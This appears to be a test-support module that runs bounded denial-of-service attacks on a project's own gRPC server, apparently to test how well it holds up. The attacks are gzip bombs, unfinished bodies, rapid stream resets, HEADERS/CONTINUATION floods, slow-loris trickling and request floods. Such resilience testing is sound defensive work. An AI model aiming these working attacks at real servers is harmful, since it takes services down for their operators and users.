"""Attacks on a gRPC server, each in a process of its own: `python -m tests.support.attacks NAME HOST:PORT ...`.

Bounded in count and time. Each prints what became of it, as JSON.
"""

import contextlib
import json
import os
import select
import sys
import time
from collections import Counter
from collections.abc import Callable
from uuid import uuid4

from playbooks.runs.v1.run_pb2 import Run
from playbooks.runs.v1.runs_service_pb2 import CreateRunRequest

from tests.support.http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    Connection,
    frame,
    headers,
    message,
    zipped,
)

LISTEN = 1.0  # seconds for the answers that still come
CREATE_RUN = "/playbooks.runs.v1.RunsService/CreateRun"
ZIP = (("grpc-encoding", "gzip"),)


def upload(target: str, method: str, streams: int, body: bytes, *fields: tuple[str, str]) -> dict[str, int]:
    """Open so many streams, send `body` on each as far as the server takes it, and do not end them."""
    with Connection(target) as connection:
        bodies = {}
        for _ in range(streams):
            stream, opening = connection.call(method, *fields)
            connection.send(opening)
            bodies[stream] = body
        print("sending", flush=True)
        sent = connection.upload(bodies, patience=LISTEN)
        print("sent", flush=True)
        sys.stdin.readline()  # and hold the connection until a line says to close it
        connection.listen(LISTEN)
        return {"sent": sent, "answered": connection.seen[HEADERS], "reset": connection.seen[RST_STREAM]}


def reset(target: str, method: str, seconds: float, rate: int, *fields: tuple[str, str]) -> dict[str, int]:
    """Open streams with a small message and reset them at once, so many a second."""
    opened = 0
    with Connection(target) as connection:
        print("sending", flush=True)
        began = time.monotonic()
        while (passed := time.monotonic() - began) < seconds:
            frames = b""
            for _ in range(min(500, int(passed * rate) + 1 - opened)):
                stream, opening = connection.call(method, *fields)
                frames += opening + frame(DATA, 1, stream, message(b""))
                frames += frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))
                opened += 1
            try:
                connection.send(frames)
            except OSError:
                return {"opened": opened, "hung_up": 1}
            connection.listen(0.001)
    return {"opened": opened, "hung_up": 0}


def flood_headers(target: str, seconds: float, connections: int, rate: int) -> dict[str, int]:
    """Open streams with header blocks of 100 kB, in HEADERS and CONTINUATION: `rate` bytes a second in all."""
    os.nice(10)  # in the field its processor is another machine's
    part = headers(*((f"x-{number}", "y" * 100) for number in range(100)))
    sent = hung_up = 0
    print("sending", flush=True)
    with contextlib.ExitStack() as open_ones:
        flooded = [open_ones.enter_context(Connection(target)) for _ in range(connections)]
        began = time.monotonic()
        while flooded and (passed := time.monotonic() - began) < seconds:
            for connection in list(flooded):
                stream, _ = connection.call(CREATE_RUN)
                more = frame(CONTINUATION, 0, stream, part) * 8 + frame(CONTINUATION, END_HEADERS, stream, part)
                try:
                    connection.send(frame(HEADERS, END_STREAM, stream, part) + more)
                    sent += 10 * len(part)
                except OSError:
                    hung_up += 1
                    flooded.remove(connection)
            time.sleep(max(0.0, sent / rate - passed))
    return {"sent": sent, "hung_up": hung_up}


def trickle(target: str, seconds: float, connections: int) -> dict[str, int]:
    """Hold so many connections open by a byte of a call's headers now and then (slow loris)."""
    print("sending", flush=True)
    with contextlib.ExitStack() as open_ones:
        slow = [open_ones.enter_context(Connection(target)) for _ in range(connections)]
        _, opening = slow[0].call(CREATE_RUN)
        for byte in opening[:-1]:  # never the last one
            for connection in slow:
                with contextlib.suppress(OSError):  # the server may have hung up
                    connection.send(bytes([byte]))
            time.sleep(seconds / len(opening))
    return {"connections": len(slow)}


def create(target: str, project: str, callers: int, token: str) -> dict[str, int]:
    """Create runs with so many calls in flight, the next one at each answer, until a line comes in."""
    os.nice(10)  # in the field its processor is another machine's
    answered = 0
    with Connection(target) as connection:

        def ask() -> None:
            wanted = CreateRunRequest(
                project_id=project,
                playbook_id="missing_seo_title",
                run_type=Run.PREVIEW_GENERATE,
                idempotency_key=str(uuid4()),
            )
            stream, opening = connection.call(CREATE_RUN, *_bearer(token))
            connection.send(opening + frame(DATA, 1, stream, message(wanted.SerializeToString())))

        for _ in range(callers):
            ask()
        print("sending", flush=True)
        for received in connection.frames():
            if received.kind == HEADERS and received.flags & END_STREAM:
                answered += 1
                if select.select([sys.stdin], [], [], 0)[0]:
                    break
                ask()
    return {"answered": answered}


def _bearer(token: str) -> tuple[tuple[str, str], ...]:
    return (("authorization", f"Bearer {token}"),) if token else ()


ATTACKS: dict[str, Callable[..., dict[str, int]]] = {
    "bombs": lambda target, method, streams, unpacked, token="": upload(
        target, method, int(streams), zipped(int(unpacked)), *ZIP, *_bearer(token)
    ),
    "unfinished": lambda target, method, streams, announced, token="": upload(
        target, method, int(streams), message(b"x" * (int(announced) - 1), announced=int(announced)), *_bearer(token)
    ),
    "creates": lambda target, project, callers, token: create(target, project, int(callers), token),
    "header_flood": lambda target, seconds, connections, rate: flood_headers(
        target, float(seconds), int(connections), int(rate)
    ),
    "trickle": lambda target, seconds, connections: trickle(target, float(seconds), int(connections)),
    "reset": lambda target, method, seconds, rate, token="": reset(
        target, method, float(seconds), int(rate), *_bearer(token)
    ),
}

if __name__ == "__main__":
    name, *arguments = sys.argv[1:]
    print(json.dumps(Counter(ATTACKS[name](*arguments))), flush=True)
